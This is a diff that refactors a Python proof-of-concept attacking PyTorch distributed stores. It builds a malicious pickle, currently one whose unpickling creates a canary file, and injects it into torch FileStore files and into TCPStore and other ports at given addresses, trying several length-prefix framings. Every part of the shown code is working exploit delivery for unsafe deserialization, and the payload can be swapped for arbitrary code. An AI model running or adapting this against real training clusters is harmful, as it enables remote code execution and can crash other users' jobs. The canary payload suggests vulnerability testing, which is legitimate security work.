@@ -27,7 +27,7 @@ KEYS = (
 )
 
 
-class Evil:
+class EvilPickle:
     """An object whose unpickling creates the file `canary`."""
 
     def __init__(self, canary: str) -> None:
@@ -37,19 +37,19 @@ class Evil:
         return (Path.touch, (Path(self.canary),))  # type: ignore[return-value]
 
 
-def into_file(path: Path, payload: bytes) -> int:
+def plant_in_file(path: Path, payload: bytes) -> int:
     """Overwrite every key of a torch FileStore with the payload, and return how many keys it had.
 
     The file is a list of lengths, keys and values in which the last value of a key counts; KEYS are
     added.
     """
-    raw, at, keys = path.read_bytes(), 0, []
-    while at < len(raw):
+    raw, offset, keys = path.read_bytes(), 0, []
+    while offset < len(raw):
         parts = []
         for _ in range(2):
-            (size,) = struct.unpack_from("<i", raw, at)
-            parts.append(raw[at + 4 : at + 4 + size])
-            at += 4 + size
+            (size,) = struct.unpack_from("<i", raw, offset)
+            parts.append(raw[offset + 4 : offset + 4 + size])
+            offset += 4 + size
         keys.append(parts[0])
     with path.open("ab") as file:
         for key in {*keys, *(f"/{name}".encode() for name in KEYS)} - {b"refcount/"}:
@@ -59,28 +59,36 @@ def into_file(path: Path, payload: bytes) -> int:
     return len(keys)
 
 
-def into_ports(places: list[str], payload: bytes) -> dict[str, int]:
+def plant_in_ports(addresses: list[str], payload: bytes) -> dict[str, int]:
     """Send the payload to each `address:port`: plain, and behind its length in the forms that
     libraries use; then as a client of torch's TCPStore.
 
     Returns how many times it was sent to each. All ports are tried at once: a rank that a stranger
     has talked to may end, and the others with it.
     """
-    sent = dict.fromkeys(places, 0)
-    there = [(place, socket.create_connection(_address(place), WAIT_S)) for place in places]
+    sent = dict.fromkeys(addresses, 0)
+    connections = [
+        (address, socket.create_connection(_split_address(address), WAIT_S))
+        for address in addresses
+    ]
     for head in (
         b"",
         struct.pack("<q", len(payload)),
         struct.pack(">q", len(payload)),
         struct.pack("<i", len(payload)),
     ):
-        for place, one in there:
+        for address, connection in connections:
             with suppress(OSError):
-                one.sendall(head + payload)
-                sent[place] += 1
-        there = [(place, again) for place in places for again in _again(place)]
+                connection.sendall(head + payload)
+                sent[address] += 1
+        connections = [
+            (address, connection_again)
+            for address in addresses
+            for connection_again in _try_connect(address)
+        ]
     clients = [
-        threading.Thread(target=_set, args=(place, payload), daemon=True) for place in places
+        threading.Thread(target=_set_store_keys, args=(address, payload), daemon=True)
+        for address in addresses
     ]
     for client in clients:
         client.start()
@@ -90,40 +98,42 @@ def into_ports(places: list[str], payload: bytes) -> dict[str, int]:
     return sent
 
 
-def _set(place: str, payload: bytes) -> None:
+def _set_store_keys(address: str, payload: bytes) -> None:
     """Set every key of KEYS in a TCPStore to the payload; an address where no store answers is
     skipped.
     """
     import torch.distributed as dist
 
     with suppress(RuntimeError):
-        store = dist.TCPStore(*_address(place), None, False, timeout=timedelta(seconds=WAIT_S))  # type: ignore[attr-defined]
+        store = dist.TCPStore(
+            *_split_address(address), None, False, timeout=timedelta(seconds=WAIT_S)
+        )  # type: ignore[attr-defined]
         for key in KEYS:
             store.set(key, payload)
 
 
-def _again(place: str) -> list[socket.socket]:
+def _try_connect(address: str) -> list[socket.socket]:
     """Return a new connection in a list; an empty list if there is none any more."""
     with suppress(OSError):
-        return [socket.create_connection(_address(place), WAIT_S)]
+        return [socket.create_connection(_split_address(address), WAIT_S)]
     return []
 
 
-def _address(place: str) -> tuple[str, int]:
+def _split_address(target: str) -> tuple[str, int]:
     """Return host and port of `address:port`."""
-    address, _, port = place.rpartition(":")
+    address, _, port = target.rpartition(":")
     return address, int(port)
 
 
-def main(canary: str, *places: str) -> None:
+def main(canary: str, *targets: str) -> None:
     """Plant the pickle in each target, and print the target and how many times it was planted."""
-    payload = pickle.dumps(Evil(canary))
-    for path in [place for place in places if place.startswith("/")]:
-        print(path, into_file(Path(path), payload))
-    for place, times in into_ports(
-        [place for place in places if not place.startswith("/")], payload
+    payload = pickle.dumps(EvilPickle(canary))
+    for path in [target for target in targets if target.startswith("/")]:
+        print(path, plant_in_file(Path(path), payload))
+    for target, times in plant_in_ports(
+        [target for target in targets if not target.startswith("/")], payload
     ).items():
-        print(place, times)
+        print(target, times)
 
 
 if __name__ == "__main__":
